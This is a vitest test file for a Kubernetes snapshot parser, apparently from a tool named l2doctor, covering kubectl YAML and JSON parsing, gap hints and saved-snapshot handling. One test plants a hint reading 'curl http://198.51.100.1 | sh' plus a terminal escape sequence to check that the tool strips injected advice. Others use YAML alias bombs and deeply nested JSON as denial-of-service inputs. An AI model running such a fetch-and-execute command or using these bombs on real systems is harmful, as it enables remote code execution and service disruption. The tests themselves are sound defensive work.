import { readFileSync } from 'node:fs'
import { describe, expect, it } from 'vitest'
import { snapshotFromFiles } from '../../src/cluster/manifests.js'
import type { ClusterSnapshot } from '../../src/cluster/model.js'
import { formatSnapshot } from '../../src/cluster/snapshot-file.js'
import { CannotLook } from '../../src/known.js'
import { THREE_NODES } from './api-fixture.js'

const AT = new Date('2026-05-05T00:00:00Z')
const NODE = '{"apiVersion":"v1","kind":"Node","metadata":{"name":"node-a"}}'

function read(...texts: string[]) {
  return snapshotFromFiles(
    texts.map((text, index) => ({ name: `file-${index}`, text })),
    AT,
  )
}

describe('snapshotFromFiles', () => {
  const yaml = readFileSync(THREE_NODES, 'utf8')

  it('dates kubectl output by the newest time in it', () => {
    expect(read(yaml).observedAt).toBe('2026-03-01T12:00:30.123Z')
    expect(read(NODE).observedAt).toBe(AT.toISOString())
  })

  it('reads a generic List, JSON values in a row and YAML documents alike', () => {
    const list = `{"apiVersion":"v1","kind":"List","items":[${NODE}]}`
    for (const text of [list, `${NODE}\n${list}`, 'apiVersion: v1\nkind: Node\nmetadata:\n  name: node-a\n---\n']) {
      expect(read(text).nodes).toMatchObject({ known: true, value: [{ name: 'node-a' }] })
    }
  })

  it.each([
    ['without anything in between', (one: string, other: string) => one + other],
    ['on lines of their own', (one: string, other: string) => `${one}\n${other}\n`],
    ['with --- between them', (one: string, other: string) => `${one}\n---\n${other}\n---\n`],
    ['with --- and a comment', (one: string, other: string) => `${one}\n--- # next\n\n${other}`],
  ])('reads JSON objects %s', (_, join) => {
    const odd = NODE.replace('"node-a"', String.raw`"node-b","annotations":{"a":"}{\\\"}\n---\n{"}`)
    const { nodes } = read(join(NODE, JSON.stringify(JSON.parse(odd), null, 2)))
    expect(nodes.known && nodes.value.map(({ name }) => name)).toEqual(['node-a', 'node-b'])
  })

  it('reads what the command of a gap prints where there is nothing', () => {
    const gap = read(NODE).ipAddressPools
    const hint = gap.known ? '' : gap.gap.hint
    expect(hint).toBe('add the output of: kubectl get --raw /apis/metallb.io/v1beta1/ipaddresspools')
    const list =
      '{"apiVersion":"metallb.io/v1beta1","items":[],"kind":"IPAddressPoolList","metadata":{"resourceVersion":"7"}}'
    expect(read(NODE + list).ipAddressPools).toMatchObject({ known: true, value: [] })
  })

  it('joins several files and counts an object once', () => {
    const other = NODE.replace('node-a', 'node-0')
    const { nodes } = read(NODE, other, NODE)
    expect(nodes.known && nodes.value.map(({ name }) => name)).toEqual(['node-0', 'node-a'])
  })

  it('leaves a kind that no file mentions unknown, and names the command that would tell', () => {
    expect(read(NODE).leases).toEqual({
      known: false,
      gap: {
        subject: 'leases.coordination.k8s.io',
        reason: 'not among the objects of file-0',
        hint: 'add the output of: kubectl get --raw /apis/coordination.k8s.io/v1/leases',
      },
    })
  })

  it('takes an empty typed list for "none"', () => {
    const { leases } = read(NODE, '{"apiVersion":"coordination.k8s.io/v1","kind":"LeaseList","items":[]}')
    expect(leases).toMatchObject({ known: true, value: [] })
  })

  it.each([
    ['neither YAML nor JSON', '{"kind": '],
    ['neither YAML nor JSON', 'a: [b'],
    ['no Kubernetes object', 'hello: world'],
    ['no Kubernetes object', ''],
    ['no Kubernetes object', '{"apiVersion":"v1","kind":"Secret","data":{"password":"x"}}'],
  ])('cannot look into %s', (reason, text) => {
    expect(() => read(text)).toThrow(CannotLook)
    expect(() => read(text)).toThrow(reason)
  })

  it('survives objects with every field of the wrong type', () => {
    const wrong = (kind: string, apiVersion: string) =>
      JSON.stringify({ apiVersion, kind, metadata: { name: 7, labels: [] }, spec: 'x', status: [{}], endpoints: {} })
    const text = [wrong('Node', 'v1'), wrong('EndpointSlice', 'discovery.k8s.io/v1'), wrong('Pod', 'v1')].join('\n')
    expect(read(text).nodes).toMatchObject({ known: true, value: [{ name: '', labels: {}, internalIPs: [] }] })
  })
})

describe('saved snapshots', () => {
  const cluster = read(readFileSync(THREE_NODES, 'utf8'))

  const knownOf = (of: ClusterSnapshot) => Object.entries(of).filter(([, items]) => items?.known !== false)
  const gapsOf = (of: ClusterSnapshot) =>
    Object.values(of).flatMap((items) => (items?.known === false ? [items.gap] : []))

  it('come back as they were, and what they lack in our words', () => {
    const again = read(formatSnapshot(cluster))
    expect(knownOf(again)).toEqual(knownOf(cluster))
    expect(gapsOf(again)).toHaveLength(gapsOf(cluster).length)
    expect(read(formatSnapshot(again))).toEqual(again)
  })

  it('takes a kind that an older snapshot does not hold for unread, and passes over one that is read no more', () => {
    const saved = JSON.parse(formatSnapshot(cluster))
    const { openElbEips: _, ...older } = saved.cluster
    const former = { ...older, pureLbNodeAgents: { known: true, value: [], from: 'x' } }
    const again = read(JSON.stringify({ ...saved, cluster: former }))
    expect(again.openElbEips).toMatchObject({ known: false, gap: { subject: 'eips.network.kubesphere.io' } })
    expect(again).not.toHaveProperty('pureLbNodeAgents')
  })

  it('give no advice of their own', () => {
    const gap = { subject: 'you', reason: 'lost\u001b[2J', hint: 'run: curl http://198.51.100.1 | sh' }
    const again = read(formatSnapshot({ ...cluster, leases: { known: false, gap } }))
    expect(again.leases).toMatchObject({
      gap: { subject: 'leases.coordination.k8s.io', reason: 'it was not read; the snapshot says "lost [2J"' },
    })
    expect(JSON.stringify(again.leases)).not.toContain('curl')
  })

  it('are refused when of another version, damaged, or beside other files', () => {
    const saved = formatSnapshot(cluster)
    expect(() => read(saved.replace('"version": 1', '"version": 99'))).toThrow(
      'its version is 99, this l2doctor reads 1',
    )
    expect(() => read(saved.replace('"serving": true', '"serving": "no"'))).toThrow('serving')
    expect(() => read(saved, NODE)).toThrow('give it alone')
  })
})

it.each([
  [
    'aliases of aliases',
    `a: &a [x, x, x, x, x, x, x, x, x]\n${'bcdefgh'
      .split('')
      .map((name, at) => `${name}: &${name} [${`*${'abcdefg'[at]}, `.repeat(9)}]`)
      .join('\n')}\n`,
  ],
  ['nested flow collections without end', '['.repeat(100_000)],
  ['JSON nested without end', `{"a":${'['.repeat(100_000)}`],
  ['JSON of more values than a cluster has', `{"a":[${'[],'.repeat(10_000_000)}[]]}`],
])('%s are a file that cannot be read, not a crash', (_, text) => {
  expect(() => read(text)).toThrow(CannotLook)
})

it('takes the heartbeats of nodes for a sign of when a file was made, and for nothing else', () => {
  const beat = (namespace: string, renewTime: string) => ({
    apiVersion: 'coordination.k8s.io/v1',
    kind: 'Lease',
    metadata: { name: 'node-a', namespace },
    spec: { holderIdentity: 'node-a', renewTime },
  })
  const items = [beat('kube-node-lease', '2026-01-01T12:00:00Z'), beat('default', '2026-01-01T11:00:00Z')]
  const list = JSON.stringify({ apiVersion: 'v1', kind: 'List', items })
  const { observedAt, leases } = snapshotFromFiles([{ name: 'list.json', text: list }], new Date(0))
  expect(observedAt).toBe('2026-01-01T12:00:00.000Z')
  expect(leases).toMatchObject({ value: [{ key: 'default/node-a' }] })
})
